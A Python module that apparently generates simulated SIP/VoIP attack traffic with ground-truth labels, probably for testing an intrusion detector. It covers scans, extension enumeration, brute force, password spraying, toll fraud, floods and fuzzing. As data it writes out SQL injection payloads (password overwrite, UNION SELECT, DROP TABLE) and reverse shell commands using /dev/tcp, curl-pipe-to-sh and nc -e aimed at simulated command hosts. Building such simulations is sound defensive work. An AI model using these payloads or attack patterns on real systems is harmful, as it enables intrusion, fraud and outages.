"""The attackers of a world, each with its own habits."""

from __future__ import annotations

import string
from collections.abc import Callable
from dataclasses import dataclass

from .people import PHONES
from .world import DAY, HOUR, START, Truth, World

TOOLS = ("friendly-scanner", "sipcli/v1.8", "VaxSIPUserAgent/3.1", "pplsip", "sipvicious", "EagleSIP 1.0")


@dataclass(slots=True)
class Habit:
    """How one attacker's software writes messages."""

    agent: str
    host: str
    prefix: str
    style: int

    def call_id(self, world: World, ip: str) -> str:
        """A Call-ID in its manner."""
        rng = world.random
        unique = (
            f"{rng.getrandbits(64):016x}" if self.style == 0 else str(rng.randint(10**9, 10**10)) if self.style == 1
            else "".join(rng.choices(string.ascii_letters, k=12)) if self.style == 2 else f"{rng.getrandbits(32):x}-{rng.getrandbits(16):04x}-{rng.getrandbits(16):04x}"
        )  # fmt: skip
        return f"{self.prefix}{unique}@{self.host or ip}"


def habit(world: World, shared: bool) -> Habit:
    """New habits. Of an attacker with many addresses (`shared`) at least one tells them apart."""
    rng = world.random
    word = "".join(rng.choices(string.ascii_lowercase, k=7))
    own = f"{word}/{rng.randint(1, 9)}.{rng.randint(0, 9)}"
    agent = rng.choice((*TOOLS, *TOOLS, own, rng.choice(PHONES), ""))
    marks = (
        rng.sample(("host", "prefix", "agent"), rng.randint(1, 2))
        if shared
        else rng.sample(("host", "prefix", "agent"), rng.randint(0, 1))
    )
    return Habit(
        own if "agent" in marks else agent, f"{word}.{rng.choice(('net', 'local', 'io'))}" if "host" in marks else "",
        f"{word}-" if "prefix" in marks else "", rng.randint(0, 3),
    )  # fmt: skip


def _begin(world: World) -> float:
    return START + world.random.uniform(0, 5 * DAY)


def sql_injection(world: World) -> Truth:
    """EagleSIP and its like."""
    rng = world.random
    ip, h, begin = world.address(), habit(world, False), _begin(world)
    kind = rng.randrange(3)
    text = (
        f"UPDATE users SET password='{rng.randint(10**6, 10**9)}ttt' WHERE username='{rng.choice(('admin', 'root'))}'",
        "' UNION SELECT username,password FROM subscriber-- ", f"x'; DROP TABLE {rng.choice(('subscriber', 'location'))};--",
    )[kind]  # fmt: skip
    for n in range(rng.randint(1, 12)):
        world.send(
            begin + n * rng.uniform(1, 4000),
            ip,
            "REGISTER",
            user="admin",
            agent=h.agent,
            call_id=h.call_id(world, ip),
            from_=f'"{text}" <sip:admin@192.0.2.10>;tag=1',
            status=200,
        )
    intents = ({"data_tampering", "credential_theft"}, {"credential_theft"}, {"data_tampering"})[kind]
    return Truth("sql", {ip}, intents, {"injection"})


def reverse_shell(world: World) -> Truth:
    """One command host, sometimes from ever new addresses."""
    rng = world.random
    c2 = f"{world.address()}:{rng.randint(1024, 9999)}"
    host, port = c2.split(":")
    begin, h = _begin(world), habit(world, False)
    ips = [world.address() for _ in range(rng.choice((1, 1, 2, 4)))]
    text = rng.choice(
        (f"bash -i >& /dev/tcp/{host}/{port} 0>&1", f"$(curl http://{c2}/x.sh|sh)", f"; nc {host} {port} -e /bin/sh")
    )
    for number, ip in enumerate(ips):
        for n in range(rng.randint(1, 6)):
            world.send(
                begin + number * 5 * HOUR + n * 60,
                ip,
                "INVITE",
                user="100",
                agent=h.agent,
                call_id=h.call_id(world, ip),
                from_=f'"{text}" <sip:a@192.0.2.10>;tag=1',
                status=404,
            )
    return Truth("shell", set(ips), {"remote_code_execution"}, {"injection"})


def _addresses(world: World) -> list[str]:
    rng = world.random
    kind = rng.randrange(4)
    if kind == 0:
        return [world.address()]
    if kind == 1:
        first = world.address()
        return [first, *(world.address(first) for _ in range(rng.randint(2, 6)))]
    return [world.address() for _ in range(rng.randint(3, 12))]


def enumeration(world: World) -> Truth:
    """Which extensions are there? Alone, by many at once, one after the other, or slowly."""
    rng = world.random
    ips = _addresses(world)
    h, begin = habit(world, len(ips) > 1), _begin(world)
    method = rng.choice(("REGISTER", "OPTIONS", "INVITE"))
    low = rng.choice((100, 1000, 200))
    users = [str(low + n) for n in range(rng.randint(40, 300))]
    moving, pause = rng.random() < 0.5, rng.choice((0.2, 2, 60))
    for number, user in enumerate(users):
        slot = number * len(ips) // len(users) if moving else number % len(ips)
        ip = ips[slot]
        world.send(
            begin + number * pause * rng.uniform(0.8, 1.2),
            ip,
            method,
            port=rng.choice((5060, 5070)),
            user=user,
            agent=h.agent,
            call_id=h.call_id(world, ip),
            status=rng.choice((401, 404, 404)) if method != "OPTIONS" else 404,
        )
    return Truth("enumeration", set(ips), {"reconnaissance"}, {"enumeration"})


def _guess(world: World, h: Habit, ip: str, time: float, user: str) -> None:
    call_id = h.call_id(world, ip)
    world.send(time, ip, "REGISTER", user=user, agent=h.agent, call_id=call_id, status=401)
    world.send(
        time + 0.1,
        ip,
        "REGISTER",
        user=user,
        agent=h.agent,
        call_id=call_id,
        cseq=2,
        status=world.random.choice((401, 403)),
        authorization=user,
    )


def brute_force(world: World) -> Truth:
    """Many passwords for a few users."""
    rng = world.random
    ips = _addresses(world)
    h, begin = habit(world, len(ips) > 1), _begin(world)
    users = [str(rng.randint(100, 999)) for _ in range(rng.choice((1, 1, 3)))]
    pause = rng.choice((0.5, 1.5)) if len(ips) == 1 else rng.choice((0.5, 3, 60))
    for n in range(rng.randint(80, 400)):
        _guess(world, h, ips[n % len(ips)], begin + n * pause, rng.choice(users))
    return Truth("brute", set(ips), {"credential_theft"}, {"brute_force"})


def spraying(world: World) -> Truth:
    """A few passwords for many users."""
    rng = world.random
    ips = _addresses(world)
    h, begin = habit(world, len(ips) > 1), _begin(world)
    users = [str(1000 + n) for n in range(rng.randint(30, 120))]
    pause = rng.choice((0.5, 5, 120))
    for round_ in range(rng.randint(1, 3)):
        for n, user in enumerate(users):
            _guess(world, h, ips[n % len(ips)], begin + (round_ * len(users) + n) * pause, user)
    return Truth("spray", set(ips), {"credential_theft"}, {"spraying"})


def toll_fraud(world: World) -> Truth:
    """Looks for the prefix that leads outside."""
    rng = world.random
    ips = _addresses(world)[:4]
    h, begin = habit(world, len(ips) > 1), _begin(world)
    number = f"{rng.choice(('972', '44', '48', '252', '371'))}{rng.randint(10**8, 10**9)}"
    prefixes = rng.sample(
        (
            "00",
            "011",
            "900",
            "9011",
            "000",
            "+",
            "0",
            "8810",
            "1100",
            "77700",
            "55500",
            "#00",
            "*00",
            "99900",
            "1000",
            "2000",
        ),
        rng.randint(8, 15),
    )
    pause = rng.choice((1, 30, 600))
    for n, prefix in enumerate(prefixes * rng.randint(1, 4)):
        ip = ips[n % len(ips)]
        world.send(
            begin + n * pause,
            ip,
            "INVITE",
            port=rng.choice((5060, 5071, 5072)),
            user=prefix + number,
            caller=rng.choice(("100", "1001")),
            agent=h.agent,
            call_id=h.call_id(world, ip),
            status=rng.choice((401, 404, 403)),
        )
    return Truth("toll", set(ips), {"toll_fraud"}, {"toll_fraud"})


def flood(world: World) -> Truth:
    """INVITEs at once: broken ones over ten ports, or whole ones as fast as they go."""
    rng = world.random
    ip, h, begin = world.address(), habit(world, False), _begin(world)
    if rng.random() < 0.5:
        ports = [rng.randint(5060, 6000) for _ in range(10)]
        for n in range(rng.randint(40, 80)):
            world.send(
                begin + n * 0.05,
                ip,
                "INVITE",
                port=ports[n % 10],
                user="100",
                agent=h.agent,
                call_id=h.call_id(world, ip),
                change=(b"Via: SIP/2.0/UDP ", b"Via: SIP/2.0/UDP ;"),
            )
    else:
        for n in range(rng.randint(300, 1500)):
            world.send(
                begin + n * 0.02, ip, "INVITE", user="100", agent=h.agent, call_id=h.call_id(world, ip), status=404
            )
    return Truth("flood", {ip}, {"denial_of_service"}, {"flood"})


def spoofed_flood(world: World) -> Truth:
    """A flood in the names of others, some of whom are lawful."""
    rng = world.random
    begin, h = _begin(world), habit(world, False)
    ips = [world.address() for _ in range(rng.randint(80, 300))]
    victims = rng.sample(sorted(world.legitimate), min(3, len(world.legitimate)))
    senders = ips + victims
    for n in range(len(senders) * 2):
        ip = senders[n % len(senders)]
        world.send(
            begin + n * 0.03,
            ip,
            "INVITE",
            port=rng.randint(1024, 65000),
            user=str(rng.randint(100, 999)),
            agent=h.agent,
            call_id=h.call_id(world, ip),
            status=404,
        )
    return Truth("spoofed", set(ips), {"denial_of_service"}, {"spoofed_flood"}, spoofed=True)


def fuzzing(world: World) -> Truth:
    """Broken messages of all kinds, or INVITEs without a body."""
    rng = world.random
    ip, h, begin = world.address(), habit(world, False), _begin(world)
    pause = rng.choice((3, 60, 900))
    if rng.random() < 0.5:
        for n in range(rng.randint(5, 40)):
            world.send(
                begin + n * pause,
                ip,
                "INVITE",
                user=str(100 + n % 3),
                agent=h.agent,
                call_id=h.call_id(world, ip),
                body=b"",
                status=404,
            )
    else:
        changes = (
            (b"Content-Length: ", b"Content-Length: -"), (b"CSeq: 1", b"CSeq: x"), (b"SIP/2.0\r\n", b"SIP/9.0\r\n"), (b"Max-Forwards:", b"Max-Forwards"),
            (b"To: <", b"To: <<<\x00"), (b"Call-ID: ", b"Call-ID: a\r\nCall-ID: "), (b"Via: SIP/2.0/UDP ", b"Via: "),
        )  # fmt: skip
        for n in range(rng.randint(15, 60)):
            world.send(
                begin + n * pause,
                ip,
                rng.choice(("INVITE", "OPTIONS", "REGISTER")),
                user="100",
                agent=h.agent,
                call_id=h.call_id(world, ip),
                change=changes[n % len(changes)],
            )
    return Truth("fuzz", {ip}, {"denial_of_service"}, {"fuzzing"})


def scan(world: World) -> Truth:
    """Is there a SIP server? By a known tool."""
    rng = world.random
    ip, begin = world.address(), _begin(world)
    h = Habit(rng.choice(TOOLS[:5]), "", "", rng.randint(0, 3))
    for n in range(rng.randint(3, 60)):
        world.send(
            begin + n * rng.choice((1, 3600)),
            ip,
            "OPTIONS",
            port=rng.randint(5060, 5099),
            user="100",
            agent=h.agent,
            call_id=h.call_id(world, ip),
            status=200,
        )
    return Truth("scan", {ip}, {"reconnaissance"}, {"scan"})


KINDS: tuple[Callable[[World], Truth], ...] = (
    sql_injection, reverse_shell, enumeration, brute_force, spraying, toll_fraud, flood, spoofed_flood, fuzzing, scan,
)  # fmt: skip


def attack(world: World) -> None:
    """Every kind at least once, some twice: several attackers at once."""
    kinds = [*KINDS, *world.random.sample(KINDS, 4)]
    for kind in kinds:
        world.attackers.append(kind(world))
